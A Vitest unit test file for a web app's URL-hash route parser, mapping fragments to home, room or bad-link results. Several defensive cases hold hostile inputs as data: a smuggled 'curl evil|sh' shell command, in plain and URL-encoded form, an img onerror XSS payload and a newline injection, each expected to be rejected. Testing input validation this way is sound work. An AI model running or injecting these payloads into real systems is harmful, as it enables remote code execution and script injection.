import { describe, expect, it } from "vitest";
import { parseRoute } from "../../../src/web/route.js";

describe("parseRoute", () => {
  it.each([
    ["", { kind: "home" }],
    ["#", { kind: "home" }],
    ["#/", { kind: "home" }],
    ["#/7-tiger-piano-oak", { kind: "room", code: "7-tiger", secret: "piano-oak" }],
    ["#/7-tiger/piano-oak", { kind: "room", code: "7-tiger", secret: "piano-oak" }],
    ["#/%207-tiger-piano-oak%20", { kind: "room", code: "7-tiger", secret: "piano-oak" }],
    ["#/x7k2m9p4q1w8", { kind: "room", code: "x7k2m9p4q1w8" }],
    ["#/7-tiger/piano/oak", { kind: "bad-link" }],
    ["#/locked-room-42", { kind: "room", code: "locked-room-42" }],
    ["#/my-cool-room", { kind: "room", code: "my-cool-room" }],
    [
      "#/shared-holiday-photos",
      { kind: "room", code: "shared", secret: "holiday-photos", plain: "shared-holiday-photos" },
    ],
    ["#/shared/holiday-photos", { kind: "room", code: "shared", secret: "holiday-photos" }],
    // A malformed escape must not throw (a blank page).
    ["#/%E0%A4%A", { kind: "bad-link" }],
    ["#/%", { kind: "bad-link" }],
    // A shell command dressed as a code never reaches the page.
    ["#/x%3B%20curl%20http%3A%2F%2Fevil%7Csh", { kind: "bad-link" }],
    ["#/x;curl evil|sh", { kind: "bad-link" }],
    ["#/ab", { kind: "bad-link" }],
    [`#/${"a".repeat(65)}`, { kind: "bad-link" }],
    ["#/<img src=x onerror=alert(1)>", { kind: "bad-link" }],
    ["#/room-%0a-name", { kind: "bad-link" }],
  ])("%j -> %j", (hash, route) => {
    expect(parseRoute(hash)).toEqual(route);
  });
});
